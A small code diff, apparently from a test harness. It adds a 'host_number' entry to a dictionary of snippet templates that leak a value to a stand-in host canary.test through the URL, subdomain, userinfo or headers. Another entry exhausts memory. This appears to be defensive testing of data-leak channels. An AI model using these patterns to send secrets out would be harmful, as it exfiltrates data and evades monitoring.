@@ -154,6 +154,7 @@ WAYS = {
     "memory": "print(s, flush=True)\n    return [s] * 10**10",
     "url": "return str((await http.get('http://canary.test/' + s + '?q=' + s)).status_code)",
     "host": "return str((await http.get('http://' + s + '.test/')).status_code)",
+    "host_number": "return str((await http.get('http://' + n + '.test/')).status_code)",
     "userinfo": "return str((await http.get('http://u:' + s + '@canary.test/')).status_code)",
     "header": "return str((await http.get('http://canary.test/', headers={'Authorization':"
               " 'Bearer ' + s, 'X-' + s: 'x'})).status_code)",
